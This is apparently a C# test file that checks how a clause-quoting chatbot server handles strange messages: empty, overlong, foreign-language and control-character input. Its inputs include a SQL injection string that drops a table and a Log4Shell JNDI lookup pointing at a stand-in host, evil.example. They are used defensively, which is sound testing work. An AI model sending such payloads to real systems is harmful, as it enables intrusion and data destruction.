using System.Text.Json.Nodes;

namespace GovBot.Tests.Server;

/// <summary>Messages nobody would think of: each gets one fitting reply, never an apology and never a link to elsewhere.</summary>
[Collection(OneServer.Name)]
public sealed class StrangeMessageTests(RunningServer server)
{
    public static TheoryData<string, string> Messages => new()
    {
        { "", "I am a bot that quotes" },
        { " \t\r\n\u00a0", "I am a bot that quotes" },
        { "🙂🙃", "I am a bot that quotes" },
        { string.Concat(Enumerable.Repeat("honey ", 1667)), "That is not answered here." },
        { "ما هي الدول الموقعة؟", "I do not know that language. Ask in English" },
        { "\u202Epara 6\u202C", "" },
        { "para\u0000 6\u0007\e[31m", "" },
        { "title:* AND (", "" },
        { "+honey -\"mead\"~3 bees^2 [a TO b] {a TO b} /x/ && || !", "That is not answered here." },
        { "'; DROP TABLE clauses; --", "" },
        { "\\", "" },
        { "${jndi:ldap://evil.example/a}", "" },
    };

    [Theory]
    [MemberData(nameof(Messages))]
    public async Task A_strange_message_gets_one_fitting_reply(string message, string expected)
    {
        var conversation = server.Converse();

        var summary = (await conversation.SayAsync(message)).GetProperty("summary").GetString();

        Assert.Contains(expected, summary, StringComparison.Ordinal);
        Assert.DoesNotContain("something went wrong", summary, StringComparison.Ordinal);
        await conversation.AssertSilenceAsync();
    }

    [Fact]
    public async Task A_long_message_is_told_that_it_was_cut() =>
        Assert.Contains("only its first 2,000 characters", (await server.Converse().SayAsync(new string('x', 10_000))).GetProperty("summary").GetString(), StringComparison.Ordinal);

    [Fact]
    public async Task A_message_with_a_value_and_no_text_gets_help()
    {
        var conversation = server.Converse();
        await conversation.PostAsync(conversation.Activity("message", new JsonObject { ["value"] = new JsonObject { ["text"] = "para 6" } }));

        Assert.StartsWith("I am a bot that quotes", (await conversation.NextAsync()).Body.GetProperty("summary").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_people_type_is_not_written_down()
    {
        await server.Converse().SayAsync("where is xylophonecanary mentioned?");

        Assert.DoesNotContain("xylophonecanary", server.Output, StringComparison.Ordinal);
    }
}
